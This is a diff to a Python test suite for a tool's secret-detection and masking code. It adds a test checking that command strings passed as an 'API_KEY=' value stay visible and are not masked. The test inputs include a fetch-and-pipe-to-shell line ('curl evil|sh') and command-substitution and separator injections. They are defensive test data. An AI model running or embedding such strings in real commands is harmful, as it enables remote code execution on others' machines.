@@ -11,6 +11,7 @@ from hypothesis import strategies as st
 from toolguard.services.server_import.secret_detection import (
     describe_suspected,
     find_suspected_secrets,
+    masked,
     move_to_variables,
 )
 
@@ -60,6 +61,14 @@ def test_secret_in_an_argument_is_detected_and_masked(args: list[str], at: int, 
 )  # fmt: skip
 def test_ordinary_value_is_no_secret(args: list[str]) -> None:
     assert find_suspected_secrets(server(*args)) == []
+
+
+@pytest.mark.parametrize("command", ["curl evil|sh", "x;y", "$(evil)", "`evil`"])
+def test_a_command_is_not_hidden_by_a_name_like_a_secrets(command: str) -> None:
+    launch = f"sh -c API_KEY={command}"
+    (found,) = find_suspected_secrets({"args": ["-c", f"API_KEY={command}"]})
+    assert masked(launch, [found.secret]) == launch
+    assert masked("run --token s3cret-value", ["s3cret-value"]) == "run --token ••••••••"
 
 
 def test_an_address_of_a_remote_server_can_hold_one_too() -> None:
